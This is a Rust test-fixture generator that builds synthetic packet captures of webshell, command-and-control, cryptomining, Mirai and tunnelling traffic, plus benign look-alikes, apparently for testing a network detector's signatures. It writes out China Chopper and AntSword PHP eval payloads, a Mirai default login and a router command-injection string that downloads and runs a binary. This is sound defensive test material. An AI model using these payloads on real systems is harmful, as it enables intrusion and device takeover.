//! Sessions of the threat families mirador's signature packs name, and
//! benign traffic that resembles them.
//!
//! Each session is built from the tools' documented behaviour (default
//! parameters, encoders, headers, markers), not replayed from a capture:
//! a TCP handshake, a request sent in several segments with two of them
//! out of order, the response in segments, and FIN both ways.

use std::path::Path;

use base64::engine::general_purpose::STANDARD;
use base64::Engine as _;

use crate::build::*;

/// 2024-03-02 09:00:00 UTC.
const T0: u64 = 1_709_370_000 * SECOND;

const LINK_ETHERNET: u16 = 1;

/// Bytes that look random (a linear congruential generator), for
/// encrypted payloads.
fn noise(seed: u64, len: usize) -> Vec<u8> {
    let mut state = seed;
    (0..len)
        .map(|_| {
            state = state
                .wrapping_mul(6_364_136_223_846_793_005)
                .wrapping_add(1_442_695_040_888_963_407);
            (state >> 56) as u8
        })
        .collect()
}

/// `%XX` for everything but unreserved characters.
fn url_encode(text: &str) -> String {
    text.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

fn request(method: &str, target: &str, headers: &[(&str, &str)], body: &[u8]) -> Vec<u8> {
    let mut text = format!("{method} {target} HTTP/1.1\r\n");
    for (name, value) in headers {
        text.push_str(&format!("{name}: {value}\r\n"));
    }
    if !body.is_empty() {
        text.push_str(&format!("Content-Length: {}\r\n", body.len()));
    }
    text.push_str("\r\n");
    let mut bytes = text.into_bytes();
    bytes.extend_from_slice(body);
    bytes
}

fn response(content_type: &str, body: &[u8]) -> Vec<u8> {
    let mut bytes = format!(
        "HTTP/1.1 200 OK\r\nServer: Apache/2.4.58 (Unix)\r\nContent-Type: {content_type}\r\nContent-Length: {}\r\n\r\n",
        body.len()
    )
    .into_bytes();
    bytes.extend_from_slice(body);
    bytes
}

/// One HTTP exchange over TCP: the request in `pieces` segments (the second
/// and third swapped on the wire), the response in 700-byte segments.
fn session(
    client: (&str, u16),
    server: (&str, u16),
    request: &[u8],
    response: &[u8],
    pieces: usize,
) -> Vec<Vec<u8>> {
    let mut conn = Tcp::new(
        client,
        server,
        0x1000_0000 + u32::from(client.1),
        0x7000_0000,
    );
    let mut packets = vec![
        conn.segment(true, SYN, b""),
        conn.segment(false, SYN | ACK, b""),
        conn.segment(true, ACK, b""),
    ];
    let size = request.len().div_ceil(pieces.max(1));
    let mut segments: Vec<Vec<u8>> = request
        .chunks(size)
        .map(|piece| conn.segment(true, PSH | ACK, piece))
        .collect();
    if segments.len() >= 3 {
        segments.swap(1, 2);
    }
    packets.extend(segments);
    packets.push(conn.segment(false, ACK, b""));
    for piece in response.chunks(700) {
        packets.push(conn.segment(false, PSH | ACK, piece));
    }
    packets.push(conn.segment(true, ACK, b""));
    packets.push(conn.segment(true, FIN | ACK, b""));
    packets.push(conn.segment(false, FIN | ACK, b""));
    packets.push(conn.segment(true, ACK, b""));
    packets
}

/// HTTP exchanges one after the other on one keep-alive TCP connection,
/// each message in 700-byte segments.
fn keep_alive(
    client: (&str, u16),
    server: (&str, u16),
    exchanges: &[(Vec<u8>, Vec<u8>)],
) -> Vec<Vec<u8>> {
    let mut conn = Tcp::new(
        client,
        server,
        0x1000_0000 + u32::from(client.1),
        0x7000_0000,
    );
    let mut packets = vec![
        conn.segment(true, SYN, b""),
        conn.segment(false, SYN | ACK, b""),
        conn.segment(true, ACK, b""),
    ];
    for (request, response) in exchanges {
        for piece in request.chunks(700) {
            packets.push(conn.segment(true, PSH | ACK, piece));
        }
        packets.push(conn.segment(false, ACK, b""));
        for piece in response.chunks(700) {
            packets.push(conn.segment(false, PSH | ACK, piece));
        }
        packets.push(conn.segment(true, ACK, b""));
    }
    packets.push(conn.segment(true, FIN | ACK, b""));
    packets.push(conn.segment(false, FIN | ACK, b""));
    packets.push(conn.segment(true, ACK, b""));
    packets
}

/// `data` XOR-ed with a key of hex digits the way Godzilla and Behinder
/// do (`key[(i + 1) & 15]`).
fn xor_hex(key: &[u8; 16], data: &[u8]) -> Vec<u8> {
    data.iter()
        .enumerate()
        .map(|(i, b)| b ^ key[(i + 1) & 15])
        .collect()
}

/// A key of 16 hex digits drawn from `seed`.
fn hex_key(seed: u64) -> [u8; 16] {
    let mut key = [0u8; 16];
    for (k, n) in key.iter_mut().zip(noise(seed, 16)) {
        *k = b"0123456789abcdef"[usize::from(n & 15)];
    }
    key
}

/// What a gzip stream of `len` compressed bytes looks like on the wire: its
/// fixed header, then bytes as random as deflate's.
fn gzip_like(seed: u64, len: usize) -> Vec<u8> {
    let mut data = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03".to_vec();
    data.extend(noise(seed, len));
    data
}

/// Writes sessions one after the other: packets 3 ms apart, a second
/// between sessions.
pub fn write(path: &Path, sessions: Vec<Vec<Vec<u8>>>) -> std::io::Result<()> {
    let mut c = Capture::default();
    let mut t = T0;
    for packets in sessions {
        for ip in packets {
            c.add(t, LINK_ETHERNET, eth_ip(&ip));
            t += 3 * MILLI;
        }
        t += SECOND;
    }
    write_pcap(path, &c, u32::from(LINK_ETHERNET), false, false)
}

const BROWSER: &str =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0";

/// Webshell managers against 10.20.0.80, one client port each:
/// 51001 China Chopper (PHP `eval(base64_decode($_POST[z0]))`, answers
/// between `->|` and `|<-`), 51002 AntSword (URL-encoded PHP prologue, the
/// answer between the markers the request split in two), 51003 Behinder 3
/// (four AES bodies of one payload class under one key: the same first
/// blocks, block-aligned answers), 51004 Godzilla (PHP_XOR_BASE64 with a
/// key and password of its own: gzip XOR-ed with hex digits, answers
/// between the halves of an MD5).
pub fn webshell(path: &Path) -> std::io::Result<()> {
    let server = ("10.20.0.80", 80);
    let chopper_code = STANDARD.encode(
        "@ini_set(\"display_errors\",\"0\");@set_time_limit(0);echo(\"->|\");;echo(dirname(__FILE__));;echo(\"|<-\");die();",
    );
    let chopper_body = format!(
        "caidao=@eval(base64_decode($_POST[z0]));&z0={}",
        url_encode(&chopper_code)
    );
    let chopper = session(
        ("10.20.0.5", 51001),
        server,
        &request(
            "POST",
            "/uploads/news.php",
            &[
                ("Host", "10.20.0.80"),
                ("User-Agent", "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)"),
                ("Content-Type", "application/x-www-form-urlencoded"),
            ],
            chopper_body.as_bytes(),
        ),
        &response("text/html", b"->|/var/www/html/uploads\t/var/www/html\tLinux\t|<-"),
        4,
    );

    let antsword_code = "@ini_set(\"display_errors\", \"0\");@set_time_limit(0);function asenc($out){return $out;};\
         function asoutput(){$output=ob_get_contents();ob_end_clean();echo \"5e1\".\"c9a\";echo @asenc($output);echo \"0f9\".\"d3b\";}\
         ob_start();try{$D=dirname($_SERVER[\"SCRIPT_FILENAME\"]);echo $D;}catch(Exception $e){echo \"ERROR://\".$e->getMessage();};asoutput();die();";
    let antsword_body = format!("f3a9={}", url_encode(antsword_code));
    let antsword = session(
        ("10.20.0.5", 51002),
        server,
        &request(
            "POST",
            "/images/logo.php",
            &[
                ("Host", "10.20.0.80"),
                ("User-Agent", BROWSER),
                ("Content-Type", "application/x-www-form-urlencoded"),
                ("Connection", "close"),
            ],
            antsword_body.as_bytes(),
        ),
        &response("text/html", b"5e1c9a/var/www/html/images0f9d3b"),
        3,
    );

    // Behinder's AES transport: the same payload class encrypted under one
    // key and IV each time, so every body starts with the same blocks, and
    // only the command at its end differs; answers are whole blocks.
    let class = noise(3, 1_472);
    let behinder_exchanges: Vec<(Vec<u8>, Vec<u8>)> = (0..4u64)
        .map(|i| {
            let mut body = class.clone();
            body.extend(noise(30 + i, 48 + 16 * i as usize));
            let request = request(
                "POST",
                "/manager/shell.jsp",
                &[
                    ("Content-Type", "application/octet-stream"),
                    (
                        "Accept",
                        "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
                    ),
                    ("User-Agent", BROWSER),
                    ("Cache-Control", "no-cache"),
                    ("Pragma", "no-cache"),
                    ("Host", "10.20.0.80:8080"),
                    ("Connection", "keep-alive"),
                    ("Cookie", "JSESSIONID=5A3F8E2B9C1D7E4F6A0B2C8D3E9F1A7B"),
                ],
                &body,
            );
            (
                request,
                response("text/html;charset=UTF-8", &noise(40 + i, 64)),
            )
        })
        .collect();
    let behinder = keep_alive(
        ("10.20.0.5", 51003),
        ("10.20.0.80", 8080),
        &behinder_exchanges,
    );

    // Godzilla's PHP_XOR_BASE64: gzip XOR-ed with half the key's MD5, in
    // one base64 form value; answers framed by the two halves of
    // md5(pass + key).
    let key = hex_key(5);
    let frame: String = noise(6, 16).iter().map(|b| format!("{b:02x}")).collect();
    let godzilla_exchanges: Vec<(Vec<u8>, Vec<u8>)> = (0..3u64)
        .map(|i| {
            let body = format!(
                "k7={}",
                url_encode(&STANDARD.encode(xor_hex(&key, &gzip_like(50 + i, 60))))
            );
            let answer = format!(
                "{}{}{}",
                &frame[..16],
                STANDARD.encode(xor_hex(&key, &gzip_like(60 + i, 90))),
                &frame[16..]
            );
            let request = request(
                "POST",
                "/wp-content/plugins/cache.php",
                &[
                    ("User-Agent", BROWSER),
                    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8"),
                    ("Content-Type", "application/x-www-form-urlencoded"),
                    ("Host", "10.20.0.80"),
                    ("Cookie", "PHPSESSID=0b6ql1n9lfe0vtjbtsr7hd7d41;"),
                ],
                body.as_bytes(),
            );
            (request, response("text/html; charset=UTF-8", answer.as_bytes()))
        })
        .collect();
    let godzilla = keep_alive(("10.20.0.5", 51004), server, &godzilla_exchanges);
    write(path, vec![chopper, antsword, behinder, godzilla])
}

/// Ordinary traffic shaped like the families, which must raise nothing:
/// 52001 a login form POST with a base64 CSRF token, 52002 a jQuery JSON
/// API call (the Accept header Behinder copies) with a form body, 52003 a
/// JSON-RPC call (`eth_blockNumber`), 52004 an upload of a base64 image in
/// a form field, 52005-52007 DNS queries for long CDN host names, and a
/// 1,400-byte ping with its answer.
pub fn benign(path: &Path) -> std::io::Result<()> {
    let server = ("10.30.0.80", 80);
    let token = STANDARD.encode(noise(7, 48));
    let form = format!(
        "username=alice&password=correct+horse&csrf_token={}&remember=1",
        url_encode(&token)
    );
    let login = session(
        ("10.30.0.5", 52001),
        server,
        &request(
            "POST",
            "/account/login.php",
            &[
                ("Host", "intranet.example.com"),
                ("User-Agent", BROWSER),
                ("Content-Type", "application/x-www-form-urlencoded"),
                (
                    "Accept",
                    "text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8",
                ),
            ],
            form.as_bytes(),
        ),
        &response(
            "text/html",
            b"<html><body>Welcome back, alice</body></html>",
        ),
        3,
    );
    let ajax = session(
        ("10.30.0.5", 52002),
        server,
        &request(
            "POST",
            "/api/orders/search.php",
            &[
                ("Host", "shop.example.com"),
                ("User-Agent", BROWSER),
                ("Accept", "application/json, text/javascript, */*; q=0.01"),
                (
                    "Content-Type",
                    "application/x-www-form-urlencoded; charset=UTF-8",
                ),
                ("X-Requested-With", "XMLHttpRequest"),
            ],
            b"query=blue+shoes&page=2&sort=price_asc&filters%5Bsize%5D=42",
        ),
        &response(
            "application/json",
            br#"{"total":31,"page":2,"items":[{"id":1042,"name":"Blue shoe"}]}"#,
        ),
        3,
    );
    let rpc = session(
        ("10.30.0.5", 52003),
        ("10.30.0.81", 8545),
        &request(
            "POST",
            "/",
            &[
                ("Host", "node.example.com:8545"),
                ("User-Agent", "web3.py/6.15.1"),
                ("Content-Type", "application/json"),
            ],
            br#"{"jsonrpc":"2.0","method":"eth_blockNumber","params":[],"id":1}"#,
        ),
        &response(
            "application/json",
            br#"{"jsonrpc":"2.0","id":1,"result":"0x12a05f2"}"#,
        ),
        2,
    );
    let image = format!(
        "title=holiday&image={}",
        url_encode(&STANDARD.encode(noise(8, 1_200)))
    );
    let upload = session(
        ("10.30.0.5", 52004),
        server,
        &request(
            "POST",
            "/gallery/upload.php",
            &[
                ("Host", "photos.example.com"),
                ("User-Agent", BROWSER),
                ("Content-Type", "application/x-www-form-urlencoded"),
            ],
            image.as_bytes(),
        ),
        &response("text/html", b"<p>Uploaded.</p>"),
        4,
    );
    let cdn = vec![
        udp_packet(
            ("10.30.0.5", 52005),
            ("10.30.0.53", 53),
            &dns_query(0x1a2b, "d3k81ch9hvuctc.cloudfront.net"),
        ),
        udp_packet(
            ("10.30.0.5", 52006),
            ("10.30.0.53", 53),
            &dns_query(0x1a2c, "e6858.dsce9.akamaiedge.net"),
        ),
        udp_packet(
            ("10.30.0.5", 52007),
            ("10.30.0.53", 53),
            &dns_query(0x1a2d, "r4---sn-4g5ednsz.googlevideo.com"),
        ),
    ];
    let (s, d) = (addr("10.30.0.5"), addr("10.30.0.1"));
    let pattern: Vec<u8> = (0..1_400u32).map(|i| (i % 256) as u8).collect();
    let ping = vec![
        ip(s, d, ICMP, &icmp(s, d, 8, 0, [0x12, 0x34, 0, 1], &pattern)),
        ip(d, s, ICMP, &icmp(d, s, 0, 0, [0x12, 0x34, 0, 1], &pattern)),
    ];
    write(path, vec![login, ajax, rpc, upload, cdn, ping])
}

fn udp_packet(src: (&str, u16), dst: (&str, u16), data: &[u8]) -> Vec<u8> {
    let (s, d) = (addr(src.0), addr(dst.0));
    ip(s, d, UDP, &udp(s, d, src.1, dst.1, data))
}

/// A 4-character URI path whose byte sum modulo 256 is `target`: how
/// Cobalt Strike's stagers name what they fetch (92 for x86, 93 for x64).
fn checksum8_path(target: u8, seed: u64) -> String {
    const ALPHABET: &[u8] = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
    let mut state = seed;
    loop {
        let mut path = Vec::with_capacity(4);
        for _ in 0..4 {
            state = state
                .wrapping_mul(6_364_136_223_846_793_005)
                .wrapping_add(1_442_695_040_888_963_407);
            path.push(ALPHABET[(state >> 33) as usize % ALPHABET.len()]);
        }
        if path.iter().map(|&b| u32::from(b)).sum::<u32>() % 256 == u32::from(target) {
            return String::from_utf8(path).expect("ascii");
        }
    }
}

/// Command and control over HTTP against 10.40.0.66: 53001 a Cobalt
/// Strike beacon under a profile of its own (its second check-in, from
/// 53005 first, with the same metadata block in a cookie), 53002 its task
/// output POST, 53003 an x64
/// stager fetch (a checksum8 URI), 53004 a plain HTTP trojan checking in
/// with the host name, user name and OS in the query (its second report,
/// from 53006 first).
pub fn c2(path: &Path) -> std::io::Result<()> {
    let server = ("10.40.0.66", 80);
    let ie = "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0; BOIE9;ENUS)";
    // A beacon under a profile of its own: its RSA-1024 metadata block in
    // a cookie, identical at both check-ins; the first answer empty, the
    // second a task (AES blocks and an HMAC).
    let cookie = format!("SESSIONID={}", STANDARD.encode(noise(11, 128)));
    let checkin = |port: u16, answer: &[u8]| {
        session(
            ("10.40.0.7", port),
            server,
            &request(
                "GET",
                "/jquery-3.3.1.min.js",
                &[
                    (
                        "Accept",
                        "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
                    ),
                    ("Cookie", &cookie),
                    ("User-Agent", ie),
                    ("Host", "10.40.0.66"),
                    ("Connection", "Keep-Alive"),
                    ("Cache-Control", "no-cache"),
                ],
                b"",
            ),
            &response("application/javascript; charset=utf-8", answer),
            2,
        )
    };
    let first_checkin = checkin(53005, b"");
    let beacon = checkin(53001, &noise(12, 48));
    // Its task output: a 4-byte length of the rest, AES blocks, the HMAC.
    let mut task_output = 64u32.to_be_bytes().to_vec();
    task_output.extend(noise(13, 64));
    let output = session(
        ("10.40.0.7", 53002),
        server,
        &request(
            "POST",
            "/jquery-3.3.2.min.js?__cfduid=1712456023",
            &[
                ("Content-Type", "application/octet-stream"),
                ("User-Agent", ie),
                ("Host", "10.40.0.66"),
            ],
            &task_output,
        ),
        &response("text/html", b""),
        2,
    );
    let stager = session(
        ("10.40.0.7", 53003),
        server,
        &request(
            "GET",
            &format!("/{}", checksum8_path(93, 14)),
            &[("User-Agent", ie), ("Host", "10.40.0.66")],
            b"",
        ),
        &response("application/octet-stream", &noise(15, 2_100)),
        2,
    );
    let trojan_checkin = |port: u16| {
        session(
        ("10.40.0.7", port),
        ("10.40.0.67", 8080),
        &request(
            "GET",
            "/gate.php?hostname=DESKTOP-7Q2KX9L&username=j.smith&os=Windows%2010%20Pro%20x64&av=Defender&ver=2.3",
            &[("User-Agent", "Mozilla/4.0"), ("Host", "10.40.0.67:8080")],
            b"",
        ),
        &response("text/plain", b"ok|sleep=60"),
        2,
    )
    };
    let first_report = trojan_checkin(53006);
    let trojan = trojan_checkin(53004);
    write(
        path,
        vec![first_checkin, beacon, output, stager, first_report, trojan],
    )
}

/// Cryptomining: 54001 a Stratum v1 session to a pool (subscribe,
/// authorize with a wallet and worker, a job), 54002 XMRig's login, a DNS
/// query for a pool name from 54003, and 54004 a Swarm Bee node's API on
/// port 1633.
pub fn mining(path: &Path) -> std::io::Result<()> {
    let stratum = {
        let mut conn = Tcp::new(
            ("10.50.0.9", 54001),
            ("10.50.0.99", 3333),
            0x2000_0000,
            0x6000_0000,
        );
        let mut p = vec![
            conn.segment(true, SYN, b""),
            conn.segment(false, SYN | ACK, b""),
            conn.segment(true, ACK, b""),
        ];
        let subscribe =
            b"{\"id\": 1, \"method\": \"mining.subscribe\", \"params\": [\"cgminer/4.11.1\"]}\n";
        let (a, b) = subscribe.split_at(30);
        let (first, second) = (conn.cseq, conn.cseq.wrapping_add(a.len() as u32));
        conn.cseq = second;
        let late = conn.segment(true, PSH | ACK, b);
        conn.cseq = first;
        let early = conn.segment(true, PSH | ACK, a);
        conn.cseq = second.wrapping_add(b.len() as u32);
        p.push(late);
        p.push(early);
        p.push(conn.segment(false, PSH | ACK, b"{\"id\":1,\"result\":[[[\"mining.set_difficulty\",\"1\"],[\"mining.notify\",\"ae6812eb4cd7735a302a8a9dd95cf71f\"]],\"08000002\",4],\"error\":null}\n"));
        p.push(conn.segment(true, PSH | ACK, b"{\"params\": [\"bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh.rig01\", \"x\"], \"id\": 2, \"method\": \"mining.authorize\"}\n"));
        p.push(conn.segment(false, PSH | ACK, b"{\"id\":2,\"result\":true,\"error\":null}\n{\"params\":[\"bf\",\"4d16b6f85af6e2198f44ae2a6de67f78487ae5611b77c6c0440b921e00000000\",\"01000000010000000000000000000000000000000000000000000000000000000000000000ffffffff20020862062f503253482f04b8864e5008\",\"072f736c7573682f000000000100f2052a010000001976a914d23fcdf86f7e756a64a7a9688ef9903327048ed988ac00000000\",[],\"00000002\",\"1c2ac4af\",\"504e86b9\",false],\"id\":null,\"method\":\"mining.notify\"}\n"));
        p.push(conn.segment(true, FIN | ACK, b""));
        p.push(conn.segment(false, FIN | ACK, b""));
        p.push(conn.segment(true, ACK, b""));
        p
    };
    let xmrig = {
        let mut conn = Tcp::new(
            ("10.50.0.9", 54002),
            ("10.50.0.98", 10128),
            0x2100_0000,
            0x6100_0000,
        );
        let login = b"{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A\",\"pass\":\"x\",\"agent\":\"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/11.3.0\",\"algo\":[\"rx/0\",\"cn/r\"]}}\n";
        vec![
            conn.segment(true, SYN, b""),
            conn.segment(false, SYN | ACK, b""),
            conn.segment(true, ACK, b""),
            conn.segment(true, PSH | ACK, &login[..90]),
            conn.segment(true, PSH | ACK, &login[90..]),
            conn.segment(false, PSH | ACK, b"{\"id\":1,\"jsonrpc\":\"2.0\",\"error\":null,\"result\":{\"id\":\"a3f1\",\"job\":{\"blob\":\"0707\",\"job_id\":\"1\",\"target\":\"b88d0600\",\"algo\":\"rx/0\"},\"status\":\"OK\"}}\n"),
            conn.segment(true, FIN | ACK, b""),
            conn.segment(false, FIN | ACK, b""),
            conn.segment(true, ACK, b""),
        ]
    };
    let pool_lookup = vec![udp_packet(
        ("10.50.0.9", 54003),
        ("10.50.0.53", 53),
        &dns_query(0x4d2a, "xmr-eu1.nanopool.org"),
    )];
    let bee = session(
        ("10.50.0.9", 54004),
        ("10.50.0.97", 1633),
        &request(
            "POST",
            "/bzz",
            &[
                ("Host", "10.50.0.97:1633"),
                (
                    "Swarm-Postage-Batch-Id",
                    "8c1ab2b49d5a4e8e3e5d2f2b7d4f8a1c6e9b0d3f5a7c9e1b3d5f7a9c1e3b5d7f",
                ),
                ("Content-Type", "application/octet-stream"),
            ],
            &noise(16, 512),
        ),
        &response(
            "application/json",
            br#"{"reference":"36b7efd913ca4cf880b8eeac5093fa27b0825906c600685b6abdd6566e6cfe8f"}"#,
        ),
        2,
    );
    write(path, vec![stratum, xmrig, pool_lookup, bee])
}

/// Mirai: 55001.. scanner SYNs to port 23 whose sequence number is the
/// destination address, a telnet session (55100) logging in with a default
/// credential and probing with `/bin/busybox MIRAI`, an attack command
/// from its C2 (55200): a 30 s UDP flood on one target, payload size 512,
/// a loader's exploit request against a router's web page (55300: a
/// download-and-run chain in a form value), and the dropper it fetches
/// (55301: a MIPS ELF to `Wget`).
pub fn mirai(path: &Path) -> std::io::Result<()> {
    let mut scans = Vec::new();
    for (i, target) in ["10.60.1.10", "10.60.1.11", "10.60.7.200"]
        .iter()
        .enumerate()
    {
        let (s, d) = (addr("10.60.0.13"), addr(target));
        let seq = match d {
            std::net::IpAddr::V4(v4) => u32::from(v4),
            std::net::IpAddr::V6(_) => 0,
        };
        scans.push(ip(
            s,
            d,
            TCP,
            &tcp(s, d, 55001 + i as u16, 23, seq, 0, SYN, b""),
        ));
    }
    let telnet = {
        let mut conn = Tcp::new(
            ("10.60.0.13", 55100),
            ("10.60.1.10", 23),
            0x3000_0000,
            0x6200_0000,
        );
        let mut p = vec![
            conn.segment(true, SYN, b""),
            conn.segment(false, SYN | ACK, b""),
            conn.segment(true, ACK, b""),
            conn.segment(false, PSH | ACK, b"\r\nlogin: "),
            conn.segment(true, PSH | ACK, b"root\r\n"),
            conn.segment(false, PSH | ACK, b"Password: "),
            conn.segment(true, PSH | ACK, b"xc3511\r\n"),
            conn.segment(
                false,
                PSH | ACK,
                b"\r\n\r\nBusyBox v1.19.4 built-in shell (ash)\r\n# ",
            ),
        ];
        for line in [
            "enable\r\n",
            "system\r\n",
            "shell\r\n",
            "sh\r\n",
            "/bin/busybox MIRAI\r\n",
        ] {
            p.push(conn.segment(true, PSH | ACK, line.as_bytes()));
        }
        p.push(conn.segment(false, PSH | ACK, b"MIRAI: applet not found\r\n# "));
        p.push(conn.segment(true, FIN | ACK, b""));
        p.push(conn.segment(false, FIN | ACK, b""));
        p.push(conn.segment(true, ACK, b""));
        p
    };
    let command = {
        // duration 30, attack 0 (UDP generic), one target 10.60.9.9/32,
        // options: 0 (payload size) = "512", 7 (destination port) = "80".
        let mut body = 30u32.to_be_bytes().to_vec();
        body.extend_from_slice(&[0, 1, 10, 60, 9, 9, 32, 2]);
        body.extend_from_slice(&[0, 3]);
        body.extend_from_slice(b"512");
        body.extend_from_slice(&[7, 2]);
        body.extend_from_slice(b"80");
        let mut message = ((body.len() + 2) as u16).to_be_bytes().to_vec();
        message.extend_from_slice(&body);
        let mut conn = Tcp::new(
            ("10.60.0.13", 55200),
            ("10.60.0.250", 23),
            0x3100_0000,
            0x6300_0000,
        );
        vec![
            conn.segment(true, SYN, b""),
            conn.segment(false, SYN | ACK, b""),
            conn.segment(true, ACK, b""),
            conn.segment(true, PSH | ACK, &[0, 0, 0, 1]),
            conn.segment(false, PSH | ACK, &message),
            conn.segment(true, ACK, b""),
            conn.segment(false, FIN | ACK, b""),
            conn.segment(true, FIN | ACK, b""),
            conn.segment(false, ACK, b""),
        ]
    };
    let injected =
        "; cd /tmp; wget http://10.60.0.77/bins/mips; chmod 777 mips; ./mips router.exploit;";
    let exploit_body = format!("remote_submit_Flag=1&remote_syslog_Flag=1&RemoteSyslogSupported=1&LogFlag=0&remote_host={}&remoteSubmit=Save", url_encode(injected));
    let exploit = session(
        ("10.60.0.13", 55300),
        ("10.60.1.10", 80),
        &request(
            "POST",
            "/boaform/admin/formLogin",
            &[
                ("Host", "10.60.1.10:80"),
                ("User-Agent", "Hello, World"),
                ("Content-Type", "application/x-www-form-urlencoded"),
            ],
            exploit_body.as_bytes(),
        ),
        &response("text/html", b"<html>OK</html>"),
        2,
    );
    let mut elf = b"\x7fELF\x01\x02\x01".to_vec();
    elf.resize(18, 0);
    elf.extend_from_slice(&8u16.to_be_bytes());
    elf.extend(noise(16, 1_500));
    let dropper = session(
        ("10.60.1.10", 55301),
        ("10.60.0.77", 80),
        &request(
            "GET",
            "/bins/mips",
            &[("Host", "10.60.0.77"), ("User-Agent", "Wget")],
            b"",
        ),
        &response("application/octet-stream", &elf),
        1,
    );
    write(path, vec![scans, telnet, command, exploit, dropper])
}

/// Covert channels: a DNS tunnel from 56001 (60 TXT questions with base32
/// data labels under `t.tunnel.example`), and two ICMP tunnels: echo
/// requests and replies with different random payloads from 10.70.0.5,
/// and an echo request carrying a whole IPv4 packet from 10.70.0.6.
pub fn covert(path: &Path) -> std::io::Result<()> {
    const BASE32: &[u8] = b"abcdefghijklmnopqrstuvwxyz234567";
    let mut dns = Vec::new();
    for i in 0..60u64 {
        let data = noise(100 + i, 30);
        let label: String = data
            .iter()
            .map(|b| BASE32[usize::from(b % 32)] as char)
            .collect();
        let name = format!("{label}.{i:04x}.t.tunnel.example");
        dns.push(udp_packet(("10.70.0.5", 56001), ("10.70.0.53", 53), &{
            let mut q = dns_query(0x7000 + i as u16, &name);
            // Type TXT (16) instead of A.
            let at = q.len() - 3;
            q[at] = 16;
            q
        }));
    }
    let (client, relay) = (addr("10.70.0.5"), addr("10.70.0.77"));
    let mut icmp_packets = Vec::new();
    for seq in 1..=6u32 {
        let rest = (0x5151u32 << 16) | seq;
        let request = noise(200 + u64::from(seq), 180);
        let reply = noise(300 + u64::from(seq), 180);
        icmp_packets.push(ip(
            client,
            relay,
            ICMP,
            &icmp(client, relay, 8, 0, rest.to_be_bytes(), &request),
        ));
        icmp_packets.push(ip(
            relay,
            client,
            ICMP,
            &icmp(relay, client, 0, 0, rest.to_be_bytes(), &reply),
        ));
    }
    let (inner_src, inner_dst) = (addr("192.168.77.2"), addr("8.8.8.8"));
    let inner = ip(
        inner_src,
        inner_dst,
        UDP,
        &udp(
            inner_src,
            inner_dst,
            40000,
            53,
            &dns_query(9, "example.org"),
        ),
    );
    let rest = (0x5252u32 << 16) | 1;
    let other = addr("10.70.0.6");
    icmp_packets.push(ip(
        other,
        relay,
        ICMP,
        &icmp(other, relay, 8, 0, rest.to_be_bytes(), &inner),
    ));
    write(path, vec![dns, icmp_packets])
}
